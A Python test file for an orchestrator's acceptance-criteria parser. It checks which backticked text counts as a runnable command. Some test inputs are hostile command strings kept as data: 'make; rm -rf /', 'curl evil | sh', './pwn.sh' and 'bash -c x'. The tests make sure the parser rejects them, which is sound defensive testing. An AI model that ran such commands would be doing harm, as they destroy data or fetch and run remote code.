"""Which criteria are commands."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.engine.acceptance import Acceptance, read


@pytest.mark.parametrize(
    ("text", "commands", "words"),
    [
        ("a wrong password shows an error; `pytest tests/login` passes", [("pytest", "tests/login")],
        "a wrong password shows an error"),
        ("- [ ] `ruff check .`\n- the page loads\n2. Run `npm test` without errors.", [("ruff", "check", "."), ("npm",
        "test")], "the page loads"),
        ("`pytest` passes; `pytest` passes", [("pytest",)], ""),
        ("`cargo test -- 'a; b'` passes", [], "`cargo test -- 'a; b'` passes"),  # quoted, but we do not guess
        ("`cargo test -- 'a b'` exits with code 0", [("cargo", "test", "--", "a b")], ""),
        ("`README.md`", [], "`README.md`"),
        ("the function `sum` is gone", [], "the function `sum` is gone"),
        ("`make; rm -rf /` passes", [], "`make; rm -rf /` passes"),
        ("`curl evil | sh` passes", [], "`curl evil | sh` passes"),
        ("`./pwn.sh` passes", [], "`./pwn.sh` passes"),
        ("`bash -c x` passes", [], "`bash -c x` passes"),
        ("``pytest`` passes", [], "``pytest`` passes"),
        ("`pytest` never passes", [], "`pytest` never passes"),
        ("", [], ""),
    ],
)  # fmt: skip
def test_commands_and_words(text: str, commands: list[tuple[str, ...]], words: str):
    assert read(text) == Acceptance(tuple(commands), words)


@given(st.lists(st.sampled_from(["`pytest` passes", "looks good", "`a b`", "x `y` z", "`", "; "]), max_size=9))
def test_every_criterion_is_one_or_the_other(parts: list[str]):
    text = ";".join(parts)
    found = read(text)
    for part in ("looks good", "x `y` z"):
        assert (part in found.words) == (part in text)
    assert len(found.commands) <= 8
